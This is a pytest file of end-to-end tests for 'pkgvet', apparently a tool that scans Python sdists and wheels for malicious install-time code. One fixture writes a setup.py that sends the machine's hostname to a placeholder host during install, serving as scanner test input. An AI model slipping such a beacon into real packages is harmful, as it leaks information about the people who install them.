"""`pkgvet scan` end to end, through the installed console script, as a user runs it.

tests/data/real/ holds the real requests 2.32.3 sdist and wheel (fetched once through
pkgvet's own fetcher; sha256 as published on PyPI), so these tests need no network.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from builders import base64_exec_sdist, make_sdist

REAL = Path(__file__).parent / "data" / "real"
SDIST_SHA = "55365417734eb18255590a9ff9eb97e9e1da868d4ccd6402399eaf68af20a760"
WHEEL_SHA = "70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6"


def pkgvet(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    exe = Path(sys.executable).with_name("pkgvet")
    env = {**os.environ, "COLUMNS": "200", "PIP_INDEX_URL": "http://127.0.0.1:9/simple/"}
    return subprocess.run(
        [str(exe), *args], capture_output=True, text=True, timeout=120, cwd=cwd, env=env
    )


def test_requests_sdist_and_wheel_are_benign() -> None:
    proc = pkgvet(
        "scan",
        str(REAL / "requests-2.32.3.tar.gz"),
        str(REAL / "requests-2.32.3-py3-none-any.whl"),
        "--format",
        "json",
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    report = json.loads(proc.stdout)
    by_file = {r["file"]: r for r in report["results"]}
    assert set(by_file) == {"requests-2.32.3.tar.gz", "requests-2.32.3-py3-none-any.whl"}
    for result in by_file.values():
        assert result["verdict"] == "benign"
        assert result["name"] == "requests" and result["version"] == "2.32.3"
        assert result["errors"] == []
    assert by_file["requests-2.32.3.tar.gz"]["sha256"] == SDIST_SHA
    assert by_file["requests-2.32.3-py3-none-any.whl"]["pin"] == (
        f"requests==2.32.3 --hash=sha256:{WHEEL_SHA}"
    )


def test_base64_exec_setup_is_malicious_with_line(tmp_path: Path) -> None:
    sdist = base64_exec_sdist(tmp_path)
    proc = pkgvet("scan", str(sdist), "--format", "json")
    assert proc.returncode == 2, proc.stderr
    result = json.loads(proc.stdout)["results"][0]
    assert result["verdict"] == "malicious"
    hits = [f for f in result["findings"] if f["rule_id"] == "PV201"]
    assert hits and hits[0]["line"] == 3 and hits[0]["phase"] == "install"
    assert hits[0]["path"] == "evil-1.0/setup.py"
    terminal = pkgvet("scan", str(sdist))
    assert "MALICIOUS" in terminal.stdout and "setup.py:3" in terminal.stdout


def test_fail_on_malicious_lets_suspicious_pass(tmp_path: Path) -> None:
    setup = "import socket, requests\nrequests.get('https://x.invalid/?' + socket.gethostname())\n"
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": setup})
    strict = pkgvet("scan", str(sdist))
    assert strict.returncode in (1, 2)
    lax = pkgvet("scan", str(sdist), "--fail-on", "malicious")
    assert lax.returncode == (2 if strict.returncode == 2 else 0)


def test_corrupt_wheel_is_one_clear_line(tmp_path: Path) -> None:
    wheel = tmp_path / "broken-1.0-py3-none-any.whl"
    wheel.write_bytes((REAL / "requests-2.32.3-py3-none-any.whl").read_bytes()[:5000])
    proc = pkgvet("scan", str(wheel))
    assert proc.returncode == 3
    lines = [line for line in (proc.stdout + proc.stderr).splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:") and "corrupt" in lines[0]
    assert "Traceback" not in proc.stderr + proc.stdout


def test_unknown_package_exits_3_without_traceback() -> None:
    proc = pkgvet("scan", "surely-not-a-package-pkgvet-test")
    assert proc.returncode == 3
    output = (proc.stdout + proc.stderr).strip()
    assert "Traceback" not in output
    assert output.count("\n") == 0 and output.startswith("error:")


def test_usage_errors_exit_3_without_traceback() -> None:
    for args in (("scan",), ("--bogus",), ("scan", "x", "--format", "nope")):
        proc = pkgvet(*args)
        assert proc.returncode == 3, args
        assert "Traceback" not in proc.stderr


def test_output_file_for_every_format(tmp_path: Path) -> None:
    wheel = str(REAL / "requests-2.32.3-py3-none-any.whl")
    for fmt, marker in (("markdown", "# pkgvet report"), ("sarif", '"version": "2.1.0"'),
                        ("json", '"schema": "pkgvet-report"'), ("terminal", "BENIGN")):
        out = tmp_path / f"report.{fmt}"
        proc = pkgvet("scan", wheel, "-f", fmt, "-o", str(out))
        assert proc.returncode == 0, proc.stderr
        assert marker in out.read_text()
